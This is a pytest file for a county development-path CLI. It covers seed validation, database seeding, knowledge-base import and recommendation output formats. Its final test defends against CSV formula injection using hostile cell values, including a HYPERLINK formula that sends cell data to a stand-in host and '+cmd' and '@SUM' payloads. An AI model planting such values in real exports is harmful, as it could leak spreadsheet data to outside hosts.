"""The countypath command, run as a user runs it."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests import processes
from tests.conftest import ROOT, seeds_with

CLI = [sys.executable, "-m", "app"]
pytestmark = pytest.mark.slow


def run(
    *args: str, db: Path | None = None, check: bool = False
) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ)
    if db is not None:
        env["COUNTYPATH_DATABASE_URL"] = f"sqlite:///{db}"
    return processes.run([*CLI, *args], cwd=ROOT, env=env, check=check, timeout=120)


def test_kb_check_passes_on_the_seeds() -> None:
    res = run("kb", "check", check=True)
    assert "seeds valid" in res.stdout


def test_kb_check_fails_naming_file_item_field(tmp_path: Path) -> None:
    seeds = seeds_with(
        tmp_path,
        "examples/deqing.yaml",
        "paths: [common-prosperity-rural-industry]",
        "paths: [no-such-path]",
    )
    res = run("kb", "check", "--seeds", str(seeds))
    assert res.returncode == 1
    assert (
        "seeds/examples/deqing.yaml: item 'deqing-common-prosperity-2023': field paths.0: unknown path 'no-such-path'"
        in res.stderr
    )


def test_migrate_seed_and_a_broken_seed_leaves_the_database_as_it_was(tmp_path: Path) -> None:
    db = tmp_path / "cli.db"
    run("migrate", db=db, check=True)
    first = run("seed", db=db, check=True)
    assert "stored as version 1" in first.stdout
    second = run("seed", db=db, check=True)
    assert "unchanged at version 1" in second.stdout
    checksum = first.stdout.split("sha256 ")[1].split(")")[0]
    assert checksum in second.stdout

    seeds = seeds_with(tmp_path, "signals.yaml", "challenge: urban-rural-gap", "challenge: gone")
    before = db.read_bytes()
    broken = run("seed", "--seeds", str(seeds), db=db)
    assert broken.returncode == 1
    assert "seeds/signals.yaml: item 'low-value-rural-industry': field challenge" in broken.stderr
    third = run("seed", db=db, check=True)
    assert "unchanged at version 1" in third.stdout
    assert db.read_bytes() == before


def test_recommend_json_matches_the_api_engine(tmp_path: Path) -> None:
    res = run("recommend", "examples/deqing-2024.json", "--format", "json", "--seeds", check=True)
    import json

    out = json.loads(res.stdout)
    assert out["benchmark"] == "zhejiang-2024"
    assert {c["slug"] for c in out["challenges"] if c["status"] in ("watch", "flag")} >= {
        "incomplete-industrial-structure",
        "high-end-talent-retention",
        "insufficient-opening-up",
    }


def test_recommend_table_and_markdown() -> None:
    table = run("recommend", "examples/deqing-2024.json", "--seeds", check=True)
    assert "Insufficient opening up" in table.stdout
    md = run(
        "recommend", "examples/deqing-2024.json", "--seeds", "-f", "md", "--lang", "zh", check=True
    )
    assert "| 对外开放不足 |" in md.stdout


def test_recommend_csv_in_csv_out(tmp_path: Path) -> None:
    src = tmp_path / "counties.csv"
    lines = [
        "county_name,province,year,gdp_cny_100m,foreign_trade_cny_100m,urban_rural_income_ratio"
    ]
    lines += [f"County {i},Zhejiang,2024,{300 + i},{50 + i},1.{50 + i % 40}" for i in range(120)]
    lines.append("Broken,Zhejiang,2024,abc,1,1.5")
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "results.csv"
    res = run("recommend", str(src), "-o", str(out), "--seeds")
    assert res.returncode == 1  # one bad row is reported, the others are written
    rows = out.read_text(encoding="utf-8").splitlines()
    assert rows[0] == "index,county,challenge,status,severity,top_paths,error"
    assert len({r.split(",")[0] for r in rows[1:]}) == 121
    assert any("/indicators/gdp_cny_100m" in r for r in rows)
    assert "wrote 121 result(s)" in res.stderr


def test_kb_import_that_removes_most_needs_confirm_remove(tmp_path: Path) -> None:
    import json

    db = tmp_path / "kb.db"
    run("migrate", db=db, check=True)
    run("seed", db=db, check=True)
    exported = json.loads(run("kb", "export", db=db, check=True).stdout)
    exported["cases"] = []  # every expert case gone; the rest still holds together
    source = tmp_path / "hollow.json"
    source.write_text(json.dumps(exported), encoding="utf-8")
    refused = run("kb", "import", str(source), db=db)
    assert refused.returncode == 1
    assert "confirm" in refused.stderr
    done = run("kb", "import", str(source), "--confirm-remove", db=db, check=True)
    assert "imported as version 2" in done.stdout


def test_recommend_csv_writes_county_names_as_text(tmp_path: Path) -> None:
    import csv

    names = ['=HYPERLINK("http://x.example/?q="&A1,"Deqing")', "+cmd", "-2+3", "@SUM(A1)"]
    src = tmp_path / "hostile.csv"
    rows = ["county_name,gdp_cny_100m,foreign_trade_cny_100m"]
    rows += ['"' + n.replace('"', '""') + '",720,344.7' for n in names]
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    run("recommend", str(src), "-o", str(out), "--seeds", check=True)
    with out.open(encoding="utf-8", newline="") as handle:
        written = {row["county"] for row in csv.DictReader(handle)}
    assert written == {"'" + n for n in names}
